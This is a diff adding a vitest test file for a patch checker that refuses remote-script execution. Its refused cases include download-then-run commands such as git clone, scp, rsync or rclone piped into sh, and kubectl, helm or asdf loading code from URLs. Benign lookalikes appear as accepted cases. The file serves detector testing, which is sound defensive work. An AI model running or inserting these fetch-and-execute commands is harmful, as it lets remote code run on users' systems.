@@ -1,0 +1,68 @@
+import { describe, expect, it } from 'vitest';
+import { checkPatch } from '../../shared/analysis/index.js';
+
+/**
+ * What attack pass 12 left accepted on the patch check (`shared/analysis/dangerous-code.ts`, `saved-download.ts`), by
+ * the groups of the last session's notes: downloaders outside the list, pipes the text does not spell, fetches run by
+ * sinks the patterns did not name; and one false refusal. Each refusal below was accepted before its fix, each
+ * acceptance is ordinary code that looks like one of them and must stay accepted.
+ */
+
+/** A patch adding `lines` to `path` after one context line. */
+function patchAdding(path: string, lines: readonly string[]): string {
+  return [`--- a/${path}`, `+++ b/${path}`, `@@ -1,1 +1,${lines.length + 1} @@`, ' import os', ...lines.map((line) => `+${line}`), ''].join('\n');
+}
+
+/** `text` added to `path`, one added line per line of it. */
+const checked = (path: string, text: string) => checkPatch(patchAdding(path, text.split('\n')));
+
+describe('pass 12, remaining group 3: downloaders outside the list', () => {
+  it.each([
+    ['docs/setup.md', 'git clone https://x.example/r.git && sh r/install.sh'],
+    ['docs/setup.md', 'git clone https://x.example/r.git /tmp/r\nbash /tmp/r/install.sh'],
+    ['docs/setup.md', 'git clone --depth 1 https://x.example/tools.git\n./tools/install.sh'],
+    ['docs/setup.md', 'git clone -b main git@x.example:o/tools.git\ncd tools\n./install.sh'],
+    ['docs/setup.md', 'hg clone https://x.example/r && sh r/install.sh'],
+    ['docs/setup.md', 'svn export https://x.example/r/i.sh && sh i.sh'],
+    ['docs/setup.md', 'scp deploy@x.example:i.sh /tmp/i.sh && sh /tmp/i.sh'],
+    ['docs/setup.md', 'scp deploy@x.example:i.sh /tmp/i.sh\nsh /tmp/i.sh'],
+    ['docs/setup.md', 'rsync -a x.example::mod/i.sh /tmp/i.sh\nbash /tmp/i.sh'],
+    ['docs/setup.md', 'rsync -az rsync://x.example/m/i.sh .\nsh i.sh'],
+    ['docs/setup.md', 'rsync -az deploy@x.example:/srv/i.sh /tmp/ && sh /tmp/i.sh'],
+    ['docs/setup.md', 'rclone copyurl https://x.example/i.sh /tmp/i.sh\nsh /tmp/i.sh'],
+    ['docs/setup.md', 'rclone copy remote:bucket/i.sh /tmp/\nsh /tmp/i.sh'],
+    ['src/setup_env.py', "os.system('git clone https://x.example/r /tmp/r')\nos.system('sh /tmp/r/i.sh')"],
+  ])('refuses a file it saves, then run, in %s: %s', (path, text) => {
+    expect(checked(path, text)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it.each([
+    ['docs/setup.md', 'kubectl apply -f https://x.example/m.yaml'],
+    ['docs/setup.md', 'kubectl create -f https://x.example/m.yaml'],
+    ['docs/setup.md', 'kubectl apply -k https://x.example/r/overlays/prod'],
+    ['docs/setup.md', 'helm install x https://x.example/c.tgz'],
+    ['docs/setup.md', 'helm upgrade --install x c --repo https://x.example/charts'],
+    ['docs/setup.md', 'asdf plugin add tool https://x.example/p.git'],
+    ['docs/setup.md', 'asdf plugin-add tool https://x.example/p.git'],
+    ['docs/setup.md', 'corepack yarn@https://x.example/yarn.tgz install'],
+    ['src/deploy.py', "subprocess.run(['kubectl', 'apply', '-f', 'https://x.example/m.yaml'])"],
+  ])('refuses a command that runs what a URL serves, in %s: %s', (path, text) => {
+    expect(checked(path, text)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it.each([
+    ['docs/setup.md', 'Get the source with git clone https://github.com/o/r.git; see docs/setup.md.'],
+    ['docs/setup.md', 'git clone https://github.com/o/r.git vendor/r\nsh scripts/build.sh'],
+    ['docs/setup.md', 'git clone https://github.com/o/docs.git\nls docs/'],
+    ['docs/setup.md', 'rsync -av build/ dist/\nsh scripts/deploy.sh'],
+    ['docs/setup.md', 'rsync -az dist/ deploy@x.example:/srv/www/\nsh scripts/notify.sh'],
+    ['docs/setup.md', 'scp build.tgz deploy@x.example:/tmp/ && sh scripts/notify.sh'],
+    ['docs/setup.md', 'kubectl apply -f k8s/deployment.yaml'],
+    ['docs/setup.md', 'helm install web ./charts/web'],
+    ['docs/setup.md', 'asdf plugin add nodejs'],
+    ['docs/setup.md', 'corepack prepare yarn@4.1.0 --activate'],
+    ['src/links.ts', "const docs = 'https://kubernetes.io/docs/reference/kubectl/';"],
+  ])('accepts, in %s: %s', (path, text) => {
+    expect(checked(path, text).ok).toBe(true);
+  });
+});
